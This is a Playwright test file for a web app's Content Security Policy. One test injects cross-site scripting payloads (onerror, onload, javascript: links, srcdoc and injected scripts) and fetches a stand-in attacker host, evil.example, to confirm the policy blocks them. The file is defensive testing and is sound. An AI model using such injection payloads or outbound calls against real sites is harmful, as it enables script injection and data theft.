import type { Page } from '@playwright/test';
import { expect, test } from './support/test.ts';

// The policy that every page comes with stops whatever is foreign, and nothing of the app's own.

/** What the browser refused on the page from now on. */
function refusalsOn(page: Page): readonly string[] {
  const refused: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy|Permissions[- ]Policy|Refused to/i.test(message.text()))
      refused.push(`${new URL(page.url()).pathname}: ${message.text()}`);
  });
  return refused;
}

const PHONE = [
  '/',
  '/households',
  '/registration',
  '/meeting',
  '/papers',
  '/papers/F5',
  '/transfer',
  '/settings',
];
const DESK = [
  '',
  '/book',
  '/decisions',
  '/papers',
  '/papers/F10',
  '/import',
  '/year',
  '/people',
  '/tray',
  '/intake',
];

test('no screen of the phone does what the policy refuses', async ({ world, server }) => {
  const phone = await world.openPhone(server);
  const refused = refusalsOn(phone.device.page());
  await phone.trySample();
  for (const path of PHONE) {
    await phone.device.goto(path);
    await expect(phone.device.page().locator('main')).toContainText(/\S{2}/);
  }
  expect(refused).toEqual([]);
});

test('no screen of the desk does what the policy refuses', async ({ world, server }) => {
  const desk = await world.openDesk(server);
  const refused = refusalsOn(desk.device.page());
  await desk.trySample();
  for (const path of DESK) {
    await desk.device.goto(`/desk${path}`);
    await expect(desk.device.page().locator('main')).toContainText(/\S{2}/);
  }
  expect(refused).toEqual([]);
});

test('what is foreign does not run, load or leave', async ({ world, server }) => {
  const device = await world.open('phone', server);
  await device.goto('/');
  const page = device.page();
  const refused = refusalsOn(page);
  const hit = await page.evaluate(async () => {
    const nasty =
      '<img src="x" onerror="window.hit = 1"><svg onload="window.hit = 2"></svg>' +
      '<a id="run" href="javascript:window.hit = 3">x</a><iframe srcdoc="<script>parent.hit = 4</script>"></iframe>';
    document.body.insertAdjacentHTML('beforeend', nasty);
    document.getElementById('run')?.click();
    const script = document.createElement('script');
    script.textContent = 'window.hit = 5';
    document.body.append(script);
    const sent = await fetch('https://evil.example/', { mode: 'no-cors' }).then(
      () => 'sent',
      () => 'stopped',
    );
    return [(window as { hit?: number }).hit ?? 'nothing ran', sent];
  });
  expect(hit).toEqual(['nothing ran', 'stopped']);
  expect(refused.length).toBeGreaterThan(3);
});

test('the built pages hold nothing inline', async ({ server }) => {
  const page = await (await fetch(`${server.url}/`)).text();
  expect(page).toContain('<script type="module"');
  expect(page).not.toMatch(
    /<script(?![^>]*\ssrc=)[^>]*>|<style[\s>]|\son[a-z]+\s*=\s*["']|\sstyle\s*=\s*["']/i,
  );
});
